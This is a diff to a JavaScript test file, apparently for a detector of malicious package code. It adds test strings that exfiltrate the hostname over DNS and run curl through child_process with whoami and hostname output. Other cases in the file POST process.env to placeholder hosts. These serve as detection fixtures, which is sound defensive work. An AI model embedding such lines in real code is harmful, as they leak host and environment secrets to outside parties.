@@ -60,6 +60,8 @@ describe('each rule at its edge (edits of real shapes)', () => {
   test.each([
     ['dependency-confusion recon: host data posted', recon, ['exfiltration']],
     ['the same to a request catcher', recon.replace('collector.example', 'abc.oastify.com'), ['beacon', 'exfiltration']],
+    ['host data by bracket access, sent over DNS', "const os = require('os'); require('dns').lookup(Buffer.from(os['hostname']()).toString('hex') + '.x.example', () => {})", ['exfiltration']],
+    ['curl through child_process with the shell asking who and where', "require('child_process').exec('curl -s https://x.example/p?d=$(whoami)@$(hostname)')", ['download-exec', 'exfiltration']],
     ['host data without a network call', "const os = require('os'); console.log(os.hostname())", []],
     ['a network call without host data (a binary download)', "require('https').get('https://github.com/o/r/releases/download/v1/x.tgz', save)", []],
     ['the whole environment sent', "fetch('https://x.example/', { method: 'POST', body: JSON.stringify(process.env) })", ['exfiltration']],
